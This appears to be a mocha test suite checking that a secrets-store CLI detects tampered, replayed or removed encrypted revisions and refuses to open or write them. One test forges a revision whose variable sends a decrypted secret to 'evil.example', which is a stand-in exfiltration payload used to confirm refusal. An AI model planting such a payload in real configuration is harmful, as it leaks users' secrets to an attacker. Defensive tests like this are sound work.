import { execFileSync } from 'node:child_process'
import { copyFileSync, cpSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect } from 'chai'
import { Program } from './program.ts'

describe('a store that somebody without the key has changed, seen through the program', function () {
  this.timeout(60_000)
  let program: Program
  /** The store as it was before anybody changed it. */
  let sound: string
  const path = (...parts: string[]) => join(program.store, ...parts)
  const revision = (number: number, name = 'app/dev') => path(name, 'revisions', `${number}.yaml`)

  before(async function () {
    if (!Program.isBuilt()) this.skip()
    program = new Program()
    await program.withEnvironment('app/dev', 'values: {a: {fn::secret: first}, b: {fn::secret: second}}\n')
    await program.withEnvironment('app/other', 'values: {a: {fn::secret: foreign}}\n')
    await program.ok('env', 'set', 'app/dev', 'c', '1')
    await program.ok('env', 'set', 'app/dev', 'c', '2')
    sound = join(program.folder, 'sound')
    cpSync(program.store, join(sound, 'store'), { recursive: true })
    cpSync(program.machine, join(sound, 'machine'), { recursive: true })
  })
  beforeEach(() => {
    for (const folder of [program.store, program.machine]) rmSync(folder, { recursive: true })
    cpSync(join(sound, 'store'), program.store, { recursive: true })
    cpSync(join(sound, 'machine'), program.machine, { recursive: true })
  })
  after(() => program?.remove())

  function edit(file: string, change: (text: string) => string): void {
    const before = readFileSync(file, 'utf8')
    expect(change(before), file).to.not.equal(before)
    writeFileSync(file, change(before))
  }

  const ciphertexts = (file: string) => readFileSync(file, 'utf8').match(/(?<=ciphertext: )[^\s}]+/g) as string[]

  function swap(text: string, one: string, other: string): string {
    return text.replace(one, '@').replace(other, one).replace('@', other)
  }

  interface Case {
    readonly change: () => void
    /** The file that is to be named, and the number of the revision. */
    readonly file: string
    readonly number: number
  }

  const cases: Readonly<Record<string, () => Case>> = {
    'a flipped byte': () => ({
      change: () => edit(revision(4), (text) => text.replace('c: 2', 'c: 3')),
      file: 'revisions/4.yaml',
      number: 4,
    }),
    'a flipped bit of a ciphertext': () => ({
      change: () => {
        const [first] = ciphertexts(revision(4)) as [string]
        const bytes = Buffer.from(first, 'base64')
        bytes[20]! ^= 1
        edit(revision(4), (text) => text.replace(first, bytes.toString('base64')))
      },
      file: 'revisions/4.yaml',
      number: 4,
    }),
    'two ciphertexts swapped': () => ({
      change: () => {
        const [first, second] = ciphertexts(revision(4)) as [string, string]
        edit(revision(4), (text) => swap(text, first, second))
      },
      file: 'revisions/4.yaml',
      number: 4,
    }),
    'a ciphertext of another environment': () => ({
      change: () => {
        const [foreign] = ciphertexts(revision(2, 'app/other')) as [string]
        const [first] = ciphertexts(revision(4)) as [string]
        edit(revision(4), (text) => text.replace(first, foreign))
      },
      file: 'revisions/4.yaml',
      number: 4,
    }),
    'the newest revision removed': () => ({
      change: () => {
        rmSync(revision(4))
        const before = readFileSync(revision(3), 'utf8')
        writeFileSync(path('app/dev/environment.yaml'), before.slice(before.indexOf('\n---\n') + 5))
      },
      file: 'revisions',
      number: 4,
    }),
    'an old revision replayed as the newest': () => ({
      change: () => {
        copyFileSync(revision(3), revision(4))
        edit(revision(4), (text) => text.replace('revision: 3', 'revision: 4'))
      },
      file: 'revisions/4.yaml',
      number: 4,
    }),
    'an old revision replayed as one more': () => ({
      change: () => {
        copyFileSync(revision(3), revision(5))
        edit(revision(5), (text) => text.replace('revision: 3', 'revision: 5'))
      },
      file: 'revisions/5.yaml',
      number: 5,
    }),
    'an edited record': () => ({
      change: () => edit(revision(4), (text) => text.replace('Ada Lovelace', 'Eve')),
      file: 'revisions/4.yaml',
      number: 4,
    }),
    'a seal taken off': () => ({
      change: () => edit(revision(4), (text) => text.replace(/^seal: .*\n/m, '')),
      file: 'revisions/4.yaml',
      number: 4,
    }),
  }

  for (const [title, make] of Object.entries(cases)) {
    it(`${title}: named by check, refused by open and by every writer`, async () => {
      const { change, file, number } = make()
      change()

      const opened = await program.esc(['open', 'app/dev'])
      expect(opened.code, opened.out).to.equal(1)
      expect(opened.out).to.equal('')
      expect(opened.err)
        .to.match(new RegExp(`revision ${number}\\b`))
        .and.include(file)
      expect(opened.err).to.match(/\nhint: /)

      const checked = await program.esc(['check'])
      expect(checked.code).to.equal(1)
      expect(checked.out)
        .to.match(new RegExp(`revision ${number}\\b`))
        .and.include(file)

      for (const words of [
        ['env', 'set', 'app/dev', 'd', '1'],
        ['env', 'get', 'app/dev', '--show-secrets'],
        ['env', 'change-secrets-provider', 'app/dev', 'default'],
        ['config', 'cp', 'app/dev', '--dest', 'app/other'],
        ['env', 'init', 'app/new', '--copy-config-from', 'app/dev'],
      ]) {
        const ran = await program.esc(words)
        expect(ran.code, words.join(' ')).to.equal(1)
      }
      expect((await program.esc(['env', 'ls'])).out).to.equal('app/dev\napp/other\n')
    })
  }

  it('an older revision that was changed is refused when it is asked for, and named by check', async () => {
    edit(revision(2), (text) => text.replace('values:', 'values: '))
    const old = await program.esc(['open', 'app/dev@2'])
    expect(old.code).to.equal(1)
    expect(old.err)
      .to.match(/revision 2\b/)
      .and.include('revisions/2.yaml')
    const checked = await program.esc(['check'])
    expect(checked.code).to.equal(1)
    expect(checked.out).to.include('revisions/2.yaml')
  })

  it('the sealed revisions removed and another first one pushed: refused in every fresh clone, with the key and without', async () => {
    const git = (cwd: string, ...words: string[]) =>
      execFileSync('git', ['-c', 'user.name=Eve', '-c', 'user.email=eve@example.com', ...words], {
        cwd,
        encoding: 'utf8',
      })
    const [ciphertext] = ciphertexts(revision(4)) as [string]
    const [record] = readFileSync(revision(1), 'utf8').split('---\n')
    for (const number of [2, 3, 4]) rmSync(revision(number))
    const forged = `values:\n  environmentVariables: {URL: "https://evil.example/\${stolen}"}\n  stolen: {fn::secret: {ciphertext: ${ciphertext}}}\n`
    writeFileSync(revision(1), `${record}---\n${forged}`)
    writeFileSync(path('app/dev/environment.yaml'), forged)
    git(program.store, 'init', '-q')
    git(program.store, 'add', '-A')
    git(program.store, 'commit', '-qm', 'a harmless change')
    const noKey = { ESC_CONFIG_HOME: join(program.folder, 'nobody') }
    let clones = 0
    for (const [words, withoutKey] of [
      [['open', 'app/dev'], true],
      [['open', 'app/dev@1'], true],
      [['env', 'get', 'app/dev'], true],
      [['env', 'get', 'app/dev', '--show-secrets'], true],
      [['env', 'version', 'history', 'app/dev'], true],
      [['env', 'set', 'app/dev', 'c', '1'], true],
      [['env', 'save', 'app/dev'], true],
      [['check'], true],
      [['env', 'trust', 'app/dev', '--yes'], false],
      [['run', 'app/dev', '--', 'true'], false],
    ] as const) {
      for (const env of withoutKey ? [{}, noKey] : [{}]) {
        const clone = join(program.folder, `clone-${++clones}`)
        git(program.folder, 'clone', '-q', program.store, clone)
        const ran = await program.esc([words[0], '--store', clone, ...words.slice(1)], env)
        const shown = ran.out + ran.err
        expect(ran.code, words.join(' ')).to.equal(1)
        expect(shown, words.join(' ')).to.include('revisions/1.yaml')
        expect(shown).to.not.match(/evil\.example\/(?:first|second)/)
        expect(git(clone, 'status', '--porcelain')).to.equal('')
      }
    }
  })
})
